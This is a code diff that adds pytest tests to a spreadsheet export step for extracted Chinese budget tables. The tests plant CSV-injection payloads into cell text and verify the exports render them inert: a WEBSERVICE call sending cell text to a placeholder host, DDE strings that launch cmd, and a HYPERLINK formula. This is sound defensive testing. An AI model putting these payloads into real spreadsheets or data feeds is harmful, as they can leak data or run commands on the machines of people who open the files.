@@ -141,3 +141,99 @@ def test_run_outputs_keep_decisions_of_an_earlier_run(seed_run):
     row = next(r for r in _rows(seed_run / "amounts.csv")
                if r["code"] == "2040610" and r["column"] == "change_amount" and r["doc"].startswith("000"))
     assert (row["value"], row["status"]) == ("-11.1", "corrected")
+
+
+# Hostile cell texts planted in a public document (OWASP's CSV injection examples,
+# a DDE call, and control characters that XML 1.0 forbids), each keeping a Chinese
+# name so that the reader takes it as the row's name. Spaces are left out: the
+# reader drops them from names as OCR noise.
+_HOSTILE_NAMES = {
+    "行政运行": '=WEBSERVICE("http://x.example/?"&"行政运行")',
+    "一般行政管理事务": "=cmd|'/Ccalc'!A0一般行政管理事务",
+    "基层司法业务": "+1+2基层司法业务",
+    "普法宣传": "@SUM(1)普法宣传",
+    "公共法律服务": "-2+3+cmd|'/Ccalc'!A0公共法律服务",
+    "行政单位离退休": "行政\x08单位\x1b离退休",
+}
+_HOSTILE_PROJECT = '=HYPERLINK("http://x.example","社区矫正工作经费")'
+_SHOWN = str.maketrans({"\x08": "\ufffd", "\x1b": "\ufffd"})  # visible, not dropped
+
+
+@pytest.fixture(scope="module")
+def hostile_out(tmp_path_factory):
+    """Seed 000 with hostile text in six row names of its function table and in a project's name."""
+    text = (SEEDS / "000_83af6fe4b24abd13.txt").read_text(encoding="utf-8")
+    for name, hostile in _HOSTILE_NAMES.items():
+        assert f"\t{name}\t" in text
+        text = text.replace(f"\t{name}\t", f"\t{hostile}\t", 1)
+    text = text.replace("项目名称\t\t社区矫正工作经费", f"项目名称\t\t{_HOSTILE_PROJECT}", 1)
+    inputs = tmp_path_factory.mktemp("hostile_in")
+    (inputs / "hostile.txt").write_text(text, encoding="utf-8")
+    out = tmp_path_factory.mktemp("hostile_out")
+    assert run([inputs], out).ok
+    return out
+
+
+def _read_back(hostile_out):
+    from extractor.export import Format, export_dataset
+
+    (xlsx,) = export_dataset(hostile_out, Format.xlsx)
+    csvs = export_dataset(hostile_out, Format.csv, hostile_out / "export_csv")
+    return xlsx, {path.stem: _rows(path) for path in csvs}
+
+
+def test_exports_make_document_text_inert(hostile_out):
+    from openpyxl import load_workbook
+
+    xlsx, tables = _read_back(hostile_out)
+    expected = {h.translate(_SHOWN) for h in [*_HOSTILE_NAMES.values(), _HOSTILE_PROJECT]}
+
+    # XLSX: no cell anywhere is a formula; the hostile texts are there, literally, as
+    # strings, the formula-like ones with Excel's quote prefix.
+    book = load_workbook(xlsx)
+    texts = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.add(cell.value)
+                    if cell.value in expected and cell.value[0] in "=+-@":
+                        assert cell.quotePrefix and cell.data_type == "s"
+    assert expected <= texts
+    # CSV: the formula-like texts gain OWASP's leading quote; the control characters are shown, not dropped.
+    names = {r["name"] for r in tables["amounts"]}
+    assert {"'" + h for h in _HOSTILE_NAMES.values() if h[0] in "=+-@"} <= names
+    assert "行政\ufffd单位\ufffd离退休" in names
+    assert "'" + _HOSTILE_PROJECT in {r["project_name"] for r in tables["projects"]}
+    assert "'" + _HOSTILE_PROJECT in {r["project_name"] for r in tables["indicators"]}
+    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for rows in tables.values() for r in rows
+                   for v in r.values())
+    # The run's own CSVs are written the same way.
+    assert {r["name"] for r in _rows(hostile_out / "amounts.csv")} == names
+
+
+def test_exports_keep_negative_numbers_numbers(hostile_out):
+    """Only text is neutralised: -48.85 stays a number in the XLSX and unquoted in the CSV."""
+    from openpyxl import load_workbook
+
+    xlsx, tables = _read_back(hostile_out)
+    row = next(r for r in tables["amounts"] if r["code"] == "2040604" and r["column"] == "change_amount")
+    assert (row["name"], row["value"], row["raw"]) == ("'+1+2基层司法业务", "-48.85", "-48.85")
+    sheet = list(load_workbook(xlsx)["expenditure_by_function"].iter_rows(values_only=True))
+    header = sheet[0]
+    row = next(dict(zip(header, r)) for r in sheet[1:]
+               if r[header.index("code")] == "2040604" and r[header.index("column")] == "change_amount")
+    assert (row["name"], row["value"], row["raw"]) == ("+1+2基层司法业务", -48.85, "-48.85")
+
+
+@pytest.mark.parametrize("text, cell", [
+    ("=1+1", "'=1+1"), ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("@A1", "'@A1"),
+    ("-48.85", "-48.85"), ("+3", "+3"), ("-1,234.5", "-1,234.5"), ("-11%", "-11%"), ("-", "-"),
+    ("住房=保障", "住房=保障"), ("a\x00b", "a\ufffdb"),
+])
+def test_csv_cell(text, cell):
+    from extractor.export.cells import csv_cell
+
+    assert csv_cell(text) == cell
+    assert csv_cell(-48.85) == -48.85
